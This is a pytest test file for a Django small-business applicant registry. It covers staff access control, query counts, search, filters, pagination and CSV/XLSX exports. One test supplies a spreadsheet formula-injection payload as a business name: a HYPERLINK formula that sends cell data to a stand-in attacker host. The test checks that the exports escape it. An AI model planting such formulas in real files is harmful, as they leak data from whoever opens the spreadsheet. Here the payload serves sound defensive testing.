from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from applicants.models import Region
from tests.applicants.factories import BusinessFactory, FiguresFactory, ProductFactory

pytestmark = pytest.mark.django_db

STAFF = ["rina", "oscar", "ayu"]


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _businesses(owner: Any, n: int) -> None:
    for i in range(n):
        business = BusinessFactory(owner=owner)
        FiguresFactory(business=business, year=2023)
        FiguresFactory(business=business, year=2024, annual_sales=300_000_000 + i)
        ProductFactory(business=business)


@pytest.mark.parametrize("name", ["applicants:registry", "applicants:export_csv", "applicants:export_xlsx",
                                  "applicants:import", "applicants:import_template"])  # fmt: skip
def test_owners_and_pph_are_refused_staff_pages_and_anonymous_goes_to_login(
    alice: Any, pat: Any, client: Client, name: str
) -> None:
    assert _client(alice).get(reverse(name)).status_code == 403
    assert _client(pat).get(reverse(name)).status_code == 403
    response = client.get(reverse(name))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("actor", STAFF)
def test_staff_see_the_registry(request: pytest.FixtureRequest, alice: Any, bob: Any, actor: str) -> None:
    BusinessFactory(owner=alice, name="Tempe Alice")
    BusinessFactory(owner=bob, name="Sambal Bob")
    page = _client(request.getfixturevalue(actor)).get(reverse("applicants:registry")).content.decode()
    assert "Tempe Alice" in page and "Sambal Bob" in page


@pytest.mark.parametrize("rows", [1, 50])
def test_the_registry_list_takes_the_same_number_of_queries_for_1_and_50_rows(
    rina: Any, alice: Any, rows: int, django_assert_num_queries: Any
) -> None:
    _businesses(alice, rows)
    client = _client(rina)
    # session, user, roles, region choices, count, the page (latest figures and product count in the same query)
    with django_assert_num_queries(6):
        response = client.get(reverse("applicants:registry"))
    assert response.content.decode().count("/business/") >= rows


def test_search_matches_name_nib_and_product(rina: Any, alice: Any) -> None:
    BusinessFactory(owner=alice, name="Kopi Liwa", nib="5555555555555")
    ProductFactory(business=BusinessFactory(owner=alice, name="Toko Serba Ada"), name="Sambal roa")
    BusinessFactory(owner=alice, name="Tempe Murni")
    client = _client(rina)

    def names(q: str) -> set[str]:
        page = client.get(reverse("applicants:registry"), {"q": q}).context["page"]
        return {b.name for b in page}

    assert names("liwa") == {"Kopi Liwa"}
    assert names("555555") == {"Kopi Liwa"}
    assert names("roa") == {"Toko Serba Ada"}


def test_filters_by_region_sector_and_pp7_scale_of_the_latest_year(rina: Any, alice: Any) -> None:
    metro = Region.objects.get(code="1872")
    micro_now = BusinessFactory(owner=alice, name="Dulu Kecil", sector="coffee")
    FiguresFactory(business=micro_now, year=2023, annual_sales=3_000_000_000)
    FiguresFactory(business=micro_now, year=2024, annual_sales=2_000_000_000)
    small = BusinessFactory(owner=alice, name="Kecil Metro", region=metro, sector="coffee")
    FiguresFactory(business=small, year=2024, annual_sales=2_000_000_001)
    large = BusinessFactory(owner=alice, name="Besar", sector="snacks")
    FiguresFactory(business=large, year=2024, annual_sales=50_000_000_001)
    client = _client(rina)

    def names(**params: Any) -> set[str]:
        return {b.name for b in client.get(reverse("applicants:registry"), params).context["page"]}

    assert names(scale="micro") == {"Dulu Kecil"}
    assert names(scale="small") == {"Kecil Metro"}
    assert names(scale="large") == {"Besar"}
    assert names(region=metro.pk) == {"Kecil Metro"}
    assert names(region=Region.objects.get(code="18").pk) == {"Dulu Kecil", "Kecil Metro", "Besar"}
    assert names(sector="coffee") == {"Dulu Kecil", "Kecil Metro"}


def test_the_registry_is_paginated_by_50(rina: Any, alice: Any) -> None:
    for _ in range(51):
        BusinessFactory(owner=alice)
    client = _client(rina)
    assert len(client.get(reverse("applicants:registry")).context["page"]) == 50
    assert len(client.get(reverse("applicants:registry"), {"page": 2}).context["page"]) == 1


def _two_businesses(alice: Any) -> None:
    first = BusinessFactory(owner=alice, name="Keripik Alice", nib="1000000000001", sector="snacks")
    FiguresFactory(business=first, year=2024, annual_sales=2_000_000_001, operating_expenses=2_100_000_000, workforce=5)
    ProductFactory(business=first)
    BusinessFactory(owner=alice, name="Kopi Alice", nib="1000000000002", sector="coffee")


def test_the_csv_export_streams_the_filtered_list(oscar: Any, alice: Any) -> None:
    _two_businesses(alice)
    response = _client(oscar).get(reverse("applicants:export_csv"), {"sector": "snacks"})
    assert response.streaming
    assert response["Content-Disposition"].startswith('attachment; filename="registry-')
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][:3] == ["Nama", "NIB", "Pemilik"]
    assert rows[1:] == [
        ["Keripik Alice", "1000000000001", "alice@example.test", "Kota Bandar Lampung", "Makanan ringan dan kerupuk",
         "10794", "5", "2024", "2000000001", "-99999999", "Kecil", "Kecil", "1"],
    ]  # fmt: skip


def test_an_owners_formula_in_a_business_name_reaches_the_staffs_csv_and_xlsx_as_text(oscar: Any, alice: Any) -> None:
    BusinessFactory(owner=alice, name='=HYPERLINK("http://evil.test/?x="&A1,"Klik")')
    response = _client(oscar).get(reverse("applicants:export_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][0] == """'=HYPERLINK("http://evil.test/?x="&A1,"Klik")"""
    workbook = _client(oscar).get(reverse("applicants:export_xlsx"))
    content = b"".join(workbook.streaming_content) if workbook.streaming else workbook.content
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    assert [row[0] for row in sheet.iter_rows(values_only=True)][1].startswith("'=HYPERLINK")


def test_the_xlsx_export_reads_back_with_openpyxl(ayu: Any, alice: Any) -> None:
    _two_businesses(alice)
    response = _client(ayu).get(reverse("applicants:export_xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 3
    assert rows[1][:2] == ("Keripik Alice", "1000000000001")
    assert rows[1][8] == 2_000_000_001
    assert rows[2][0] == "Kopi Alice"
    assert rows[2][7] in (None, "")
